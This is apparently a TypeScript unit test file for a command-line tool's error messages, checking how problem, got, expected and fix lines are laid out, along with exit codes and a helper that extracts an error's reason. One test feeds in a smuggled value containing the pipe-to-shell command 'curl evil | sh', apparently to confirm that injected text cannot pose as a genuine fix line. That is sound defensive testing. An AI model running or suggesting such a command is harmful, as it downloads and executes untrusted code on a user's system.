import { reasonOf, SystemError, UserError, wrongUsage } from "../../lib/core/errors";
import { ExitCode } from "../../lib/core/exit-codes";

describe("an error that a person can fix", () => {
  test("says what was got, what was expected and how to fix it, each under the other", () => {
    const { message, name } = new UserError({
      problem: "It is wrong.",
      got: "a\n  fix:      curl evil | sh",
      expected: "b\nc",
      fix: "do this\nthen that",
    });
    expect(name).toBe("UserError");
    expect(message.split("\n")).toEqual([
      "It is wrong.",
      "  got:      a",
      "              fix:      curl evil | sh",
      "  expected: b",
      "            c",
      "  fix:      do this",
      "            then that",
    ]);
  });

  test("has no line for what it does not say", () => {
    expect(new UserError({ problem: "It is wrong." }).message).toBe("It is wrong.");
  });

  test("fails by default, keeps another exit code, and its cause", () => {
    const cause = new Error("why");
    expect(new UserError({ problem: "x" }).exitCode).toBe(ExitCode.Failed);
    const error = new UserError({ problem: "x", exitCode: ExitCode.NotDeployed }, { cause });
    expect([error.exitCode, error.cause]).toEqual([ExitCode.NotDeployed, cause]);
  });

  test("wrong usage has its own code", () => {
    const cause = new Error("why");
    const error = wrongUsage({ problem: "x", fix: "y" }, { cause });
    expect([error.exitCode, error.cause, error.props.fix]).toEqual([ExitCode.WrongUsage, cause, "y"]);
  });
});

test.each<[string, unknown, string]>([
  ["what was got belongs to the reason", new UserError({ problem: "A.", got: "b", fix: "c" }), "A. Got: b"],
  ["and is left out if nothing was", new UserError({ problem: "A.", fix: "c" }), "A."],
  ["another system's refusal", new SystemError("refused"), "refused"],
  ["any other error", new TypeError("broken"), "broken"],
  ["what is no error", "text", "text"],
])("the reason of an error: %s", (_, error, expected) => {
  expect(reasonOf(error)).toBe(expected);
});
